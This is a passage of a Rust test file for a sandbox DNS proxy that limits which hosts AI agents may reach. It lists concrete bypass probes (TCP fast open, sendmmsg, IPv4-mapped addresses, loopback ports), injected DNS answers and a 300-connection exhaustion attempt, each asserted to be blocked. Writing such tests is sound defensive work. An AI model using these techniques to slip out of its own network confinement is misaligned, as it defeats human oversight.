    // zero-length, partial and split frames; FormErr to the junk.
    let replies = |out: &str| out.split_whitespace().next().unwrap_or_default().to_owned();
    assert_eq!(
        tcp.iter().map(|o| replies(o)).collect::<Vec<_>>(),
        ["replies=3", "replies=0", "replies=0", "replies=1", "replies=0"],
        "{tcp:?}"
    );
    let pipelined: Vec<&str> = tcp[0].split("; ").map(rcode).collect();
    assert_eq!(pipelined, ["NoError", "Refused", "NoError"], "{}", tcp[0]);
    assert_eq!(rcode(&tcp[3]), "FormErr", "{}", tcp[3]);
    // Nothing but api.llm.test (A, AAAA) was ever asked upstream, and it was (the positive
    // control: what a case lets through does reach the upstream's log).
    let asked: Vec<String> =
        queries(&w.log).into_iter().filter(|q| !q.starts_with("api.llm.test ")).collect();
    assert!(asked.is_empty(), "{asked:?}");
    assert!(w.upstream_saw("api.llm.test") >= 4, "{:?}", queries(&w.log));
    // The injected 10.77.0.2 was not learned; the proxy still answers (UDP and TCP).
    assert_eq!(w.inside(&alpha, &["tcp:10.77.0.2:443"]), ["EPERM"]);
    let after = w.inside(&alpha, &[&ask("api.llm.test", "A"), &format!("dns-tcp:{UPSTREAM}/api.llm.test/A")]);
    for a in &after {
        assert_eq!(field(a, "answers"), "10.77.0.1", "{a}");
    }
    assert!(w.daemon.agents().contains("alpha"));
}

#[test]
fn one_agent_holding_tcp_connections_takes_only_its_share_of_the_proxy() {
    let w = World::new("");
    let alpha = w.agent("alpha", &["llm"]);
    let mallory = w.agent("mallory", &[]);
    // Control: alpha's TCP DNS works.
    let before = &w.inside(&alpha, &[&format!("dns-tcp:{UPSTREAM}/api.llm.test/A")])[0];
    assert_eq!(field(before, "answers"), "10.77.0.1", "{before}");
    // mallory (no rules at all) opens 300 connections to "the resolver", and would keep each
    // busy with a refused query every 5 s. The proxy accepts connections in order: by the time
    // it takes alpha's, it has dealt with all of mallory's (which, with one pool for all
    // agents, took every connection it has).
    let keep = hex::encode(framed(&q1(&[b"keep", b"alive", b"invalid"], A)));
    let mut hold = std::process::Command::new(probe_bin());
    hold.arg("--netns").arg(w.ns.path()).arg("--cgroup").arg(&mallory);
    hold.args(["dns-hold", UPSTREAM, "300", "10", &keep]);
    let mut hold = Proc::spawn(hold);
    let held = hold.line();
    assert!(held.starts_with("held "), "{held}");
    let during =
        w.inside(&alpha, &[&format!("dns-tcp:{UPSTREAM}/api.llm.test/A"), &ask("api.llm.test", "A")]);
    drop(hold);
    assert!(during[1].contains("answers=10.77.0.1"), "UDP control: {}", during[1]);
    assert!(
        during[0].contains("answers=10.77.0.1"),
        "alpha's TCP DNS failed while mallory held connections ({held}): {}",
        during[0]
    );
}

#[test]
fn fast_open_sendmmsg_and_mapped_addresses_all_go_to_the_own_proxy() {
    let w = World::new("");
    let alpha = w.agent("alpha", &["llm"]);
    let _beta = w.agent("beta", &["llm", "mirror"]);
    let other = hex::encode(framed(&q1(&[b"other", b"test"], A)));
    let allowed = hex::encode(framed(&q1(&[b"api", b"llm", b"test"], A)));
    let other_udp = hex::encode(q1(&[b"other", b"test"], A));
    let got = w.inside(
        &alpha,
        &[
            &format!("tfo:{UPSTREAM}/{allowed}"),
            &format!("tfo:{UPSTREAM}/{other}"),
            &format!("tfo:[::ffff:10.77.0.53]:53/{other}"),
            &format!("tfo:127.53.0.2:10053/{other}"),
            &format!("tfo:127.53.0.1:10053/{other}"),
            &format!("tfo:127.0.0.1:10053/{other}"),
            &format!("sendmmsg:{UPSTREAM}/{other_udp}/8"),
            &format!("sendmmsg:127.53.0.2:10053/{other_udp}/8"),
            &format!("sendmmsg:[::ffff:127.53.0.2]:10053/{other_udp}/8"),
            &format!("sendmmsg:[::ffff:10.77.0.53]:53/{other_udp}/8"),
            &format!("sendmmsg:[fd77::1]:53/{other_udp}/8"),
            &format!("dns-raw-udp:[::ffff:10.77.0.53]:53/{other_udp}"),
            &format!("dns-raw-udp:127.0.0.1:10053/{other_udp}"),
            &format!("dns-raw-udp:0.0.0.0:53/{other_udp}"),
            &format!("dns-raw-udp:0.0.0.0:10053/{other_udp}"),
            &format!("dns-raw-udp:127.53.255.255:10053/{other_udp}"),
            &format!("dns-raw-tcp:[::]:53/{other}"),
        ],
    );
    // Fast open and sendmmsg to the resolver (v4 or mapped) reach the own proxy: the allowed
    // name is answered, the other refused; any address of the proxy's network, the loopback's
    // proxy port and an IPv6 resolver without connecting are refused by the kernel.
    let got: Vec<&str> = got.iter().map(|g| rcode(g)).collect();
    assert_eq!(
        got,
        [
            "NoError",
            "Refused",
            "Refused",
            "send-EPERM",
            "send-EPERM",
            "send-EPERM",
            "sent=8 replies=8",
            "EPERM",
            "EPERM",
            "sent=8 replies=8",
            "EPERM",
            "Refused",
            "EPERM",
            "Refused",
            "EPERM",
            "EPERM",
            "Refused",
        ]
    );
    assert_eq!(w.upstream_saw("other.test"), 0);
    // Control: from outside the agents, fast open reaches the resolver itself, and the
    // upstream's log shows it.
    let control = w.outside(&[&format!("tfo:{UPSTREAM}/{other}")]);
    assert_eq!(rcode(&control[0]), "NoError", "{control:?}");
    assert_eq!(w.upstream_saw("other.test"), 1);
}
